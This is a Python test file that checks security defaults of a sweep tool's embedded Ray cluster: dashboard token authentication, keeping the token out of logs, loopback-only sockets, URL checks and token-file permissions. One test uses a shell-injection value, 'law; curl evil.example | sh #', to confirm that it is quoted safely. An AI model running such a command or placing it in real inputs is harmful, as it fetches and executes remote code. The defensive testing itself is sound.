"""Security defaults (issue 6): token authentication guards the dashboard API, the token never
reaches logs or results, and the embedded Ray that `memlaw sweep` starts listens on loopback only.

Ray reads the token from RAY_AUTH_TOKEN, else RAY_AUTH_TOKEN_PATH, else ~/.ray/auth_token, and
enforces it when RAY_AUTH_MODE=token. Every process here gets a fresh token through the
environment, so the user's ~/.ray/auth_token is neither read nor written.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path

import pytest
import yaml

from conftest import memlaw_cmd, print_figure
from ray_heads import listeners, start_head, tree
from test_sweep import SMOKE_TRIAL

TOKEN = secrets.token_hex(32)  # the format `ray get-auth-token --generate` writes


def auth_env(token: str = TOKEN, **extra: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if k != "RAY_AUTH_TOKEN_PATH"}
    env.update(RAY_AUTH_MODE="token", RAY_AUTH_TOKEN=token, **extra)
    return env


def http_get(url: str, token: str | None = None) -> tuple[int, bytes]:
    headers = {"Authorization": f"Bearer {token}"} if token is not None else {}
    try:
        with urllib.request.urlopen(urllib.request.Request(url, headers=headers), timeout=10) as resp:
            return resp.status, resp.read()
    except urllib.error.HTTPError as err:
        return err.code, err.read()


# -- token authentication on the dashboard ---------------------------------------------------------
@pytest.mark.slow
def test_dashboard_api_refuses_requests_without_the_token(tmp_path, request):
    """Ray's token middleware guards every route but a few public ones (/, /api/healthz, static
    files...; see dashboard/http_server_head.py): /api/version and /api/jobs/ need the token."""
    head = start_head(tmp_path, auth_env(), num_cpus=0, dashboard=True)
    try:
        base = f"http://127.0.0.1:{head.dashboard_port}"
        deadline = time.monotonic() + 90
        while http_get(f"{base}/api/version", TOKEN)[0] != 200:
            assert time.monotonic() < deadline, f"dashboard never answered:\n{head.log.read_text()[-2000:]}"
            time.sleep(1)
        for path in ("/api/version", "/api/jobs/"):
            missing, _ = http_get(base + path)
            wrong, _ = http_get(base + path, secrets.token_hex(32))
            status, body = http_get(base + path, TOKEN)
            assert (missing, wrong, status) == (401, 403, 200), (path, missing, wrong, status)
            json.loads(body)
            print_figure(request, f"[security] {path}: no token -> {missing}, wrong token -> {wrong}, "
                                  f"token -> {status}")
        assert http_get(f"{base}/api/gcs_healthz")[0] == 200  # public by design: liveness probes carry no token
    finally:
        head.stop()


# -- one embedded sweep: what it writes, and what it listens on ---------------------------------------
def write_small_sweep(tmp: Path) -> Path:
    sweep = {"name": "secure", "trial": SMOKE_TRIAL, "space": "law_grid_smoke", "search": {"kind": "grid"},
             "space_overrides": {"adapter.rank": [1, 2], "data.target_tokens": [32]},
             "resources": {"cpu": 1}, "max_concurrency": 2, "storage_path": str(tmp / "runs")}
    path = tmp / "sweep.yaml"
    path.write_text(yaml.safe_dump(sweep))
    return path


@pytest.fixture(scope="module")
def embedded_sweep(tmp_path_factory):
    """`memlaw sweep` on its embedded Ray with a known token, its Ray files in a temp dir of its own
    (RAY_TMPDIR; short, for Ray's socket paths), the listening sockets of its process tree polled
    every 0.5 s while it runs, then `memlaw export` to Parquet and CSV."""
    tmp = tmp_path_factory.mktemp("security")
    ray_tmp = Path(tempfile.mkdtemp(prefix="mls", dir="/tmp"))
    env = auth_env(RAY_TMPDIR=str(ray_tmp))
    out, err = tmp / "sweep.stdout", tmp / "sweep.stderr"
    seen = set()
    try:
        with open(out, "w") as so, open(err, "w") as se:
            proc = subprocess.Popen(memlaw_cmd("sweep", str(write_small_sweep(tmp))), stdout=so, stderr=se, env=env)
            try:
                while proc.poll() is None:
                    seen |= listeners(tree(proc.pid))
                    time.sleep(0.5)
            finally:
                if proc.poll() is None:
                    proc.kill()
                proc.wait(timeout=60)
        assert proc.returncode == 0, err.read_text()[-3000:]
        experiment = tmp / "runs" / "secure"
        exports = [tmp / "results.parquet", tmp / "results.csv"]
        for target in exports:
            run = subprocess.run(memlaw_cmd("export", str(experiment), "--out", str(target)), env=env,
                                 capture_output=True, text=True, timeout=300)
            assert run.returncode == 0, run.stderr[-2000:]
            (tmp / f"export-{target.suffix[1:]}.out").write_text(run.stdout + run.stderr)
        yield {"experiment": experiment, "exports": exports, "ray_tmp": ray_tmp, "captured": [out, err],
               "extra_output": sorted(tmp.glob("export-*.out")), "listeners": seen}
    finally:
        shutil.rmtree(ray_tmp, ignore_errors=True)


def files_with(token: str, roots: list[Path]) -> tuple[list[str], int]:
    """Every regular file under `roots` (or a root that is a file) whose bytes contain the token."""
    hits, scanned, needle = [], 0, token.encode()
    for root in roots:
        for path in ([root] if root.is_file() else root.rglob("*")):
            if path.is_file() and not path.is_symlink():
                scanned += 1
                if needle in path.read_bytes():
                    hits.append(str(path))
    return hits, scanned


@pytest.mark.slow
def test_the_token_never_reaches_logs_experiment_or_exports(embedded_sweep, tmp_path, request):
    s = embedded_sweep
    sessions = list((s["ray_tmp"] / "ray").glob("session_2*"))
    assert len(sessions) == 1 and list(sessions[0].glob("logs/*")), "the sweep's Ray session logs are missing"
    roots = [s["experiment"], *s["exports"], s["ray_tmp"], *s["captured"], *s["extra_output"]]
    hits, scanned = files_with(TOKEN, roots)
    canary = tmp_path / "canary.log"  # the scan itself must be able to find it
    canary.write_text(f"header\nAuthorization: Bearer {TOKEN}\n")
    assert files_with(TOKEN, [canary])[0] == [str(canary)]
    print_figure(request, f"[security] token searched in {scanned} files (experiment, Parquet, CSV, Ray session "
                          f"logs, captured output): {len(hits)} hits")
    assert hits == [], f"the Ray token leaked into: {hits}"


@pytest.mark.slow
def test_every_socket_of_the_embedded_ray_listens_on_loopback(embedded_sweep, request):
    """The embedded Ray (orchestrator.tune.ray_session.start_ray) keeps its node address 127.0.0.1, so GCS,
    raylet, agents, workers and the driver bind loopback. No exceptions are needed: any socket that
    is not loopback fails this test, listed with its process."""
    found = sorted(embedded_sweep["listeners"], key=lambda x: (x.process, x.port))
    processes = {x.process for x in found}
    assert {"gcs_server", "raylet"} <= processes, f"the poll missed Ray's own processes: {processes}"
    lines = [f"  {x.proto} {x.ip}:{x.port}  {x.process}" for x in found]
    print_figure(request, f"[security] {len(found)} sockets opened by one embedded sweep:\n" + "\n".join(lines))
    exposed = [line for x, line in zip(found, lines) if not x.loopback]
    assert not exposed, "listening beyond loopback:\n" + "\n".join(exposed)


# -- the token goes only where nobody reads it on the way (issue 14) --------------------------------
@pytest.mark.parametrize("url, allowed", [
    ("http://127.0.0.1:8265", True), ("http://localhost:8265", True), ("http://[::1]:8265", True),
    ("127.0.0.1:8265", True), ("http://127.8.9.10:8265", True), ("https://head.example.org", True),
    ("https://10.0.0.5:8265", True),
    ("http://10.0.0.5:8265", False), ("10.0.0.5:8265", False), ("http://head.example.org:8265", False),
    ("http://127.0.0.1.example.org:8265", False), ("http://0.0.0.0:8265", False), ("http://[::1", False),
    ("ftp://127.0.0.1", False), ("http://", False),
])
def test_dashboard_urls_that_may_carry_the_token(url, allowed):
    from orchestrator.tune.jobs import dashboard_url_problem

    problem = dashboard_url_problem(url)
    assert (problem is None) is allowed, problem
    if not allowed:
        assert url in problem
    if problem and "plain http" in problem:
        assert dashboard_url_problem(url, insecure_http=True) is None  # the explicit flag, and only it


@pytest.mark.slow  # spawns the CLI: the CLI process
def test_plain_http_to_another_host_is_refused_before_anything_is_sent():
    env = {k: v for k, v in os.environ.items() if k != "RAY_ADDRESS"}
    run = subprocess.run(memlaw_cmd("law", "--dashboard", "http://10.255.255.1:8265", "--json"), capture_output=True,
                         text=True, env=env, timeout=60)
    assert run.returncode == 2 and run.stdout == "" and "Traceback" not in run.stderr, run.stderr
    assert "plain http to 10.255.255.1" in run.stderr and "--insecure-http" in run.stderr


def test_the_law_job_quotes_the_sweep_name_for_the_shell():
    import shlex

    from orchestrator.tune.jobs import law_job_entrypoint

    assert law_job_entrypoint(None) == "memlaw law --address auto --json"
    hostile = "law; curl evil.example | sh #"
    entry = law_job_entrypoint(hostile)
    assert shlex.split(entry) == ["memlaw", "law", "--address", "auto", "--json", "--sweep", hostile]


def test_rays_token_file_is_tightened_to_0600(tmp_path, monkeypatch):
    import stat
    import sys
    import types

    from orchestrator.cli import main as cli
    from orchestrator.cli.output import EXIT_BAD_INPUT
    from orchestrator.tune import ray_session

    token = tmp_path / "auth_token"
    token.write_text(TOKEN)
    token.chmod(0o644)  # what Ray leaves with the usual umask
    monkeypatch.delenv("RAY_AUTH_TOKEN", raising=False)
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token))
    assert ray_session.token_file() == str(token)
    assert ray_session.tighten_token_file() == str(token)
    assert stat.S_IMODE(token.stat().st_mode) == 0o600 and token.read_text() == TOKEN
    assert ray_session.tighten_token_file() is None  # already tight: untouched
    token.chmod(0o640)
    monkeypatch.setenv("RAY_AUTH_TOKEN", TOKEN)  # Ray reads the variable, not the file: not ours to change
    assert ray_session.tighten_token_file() is None and stat.S_IMODE(token.stat().st_mode) == 0o640
    monkeypatch.delenv("RAY_AUTH_TOKEN")
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(tmp_path / "missing"))
    assert ray_session.tighten_token_file() is None
    # the CLI tightens it after any command that imported Ray (here a stand-in module)
    monkeypatch.setenv("RAY_AUTH_TOKEN_PATH", str(token))
    monkeypatch.setitem(sys.modules, "ray", types.ModuleType("ray"))
    assert cli.main(["law", "--dashboard", "http://10.255.255.1:8265"]) == EXIT_BAD_INPUT
    assert stat.S_IMODE(token.stat().st_mode) == 0o600
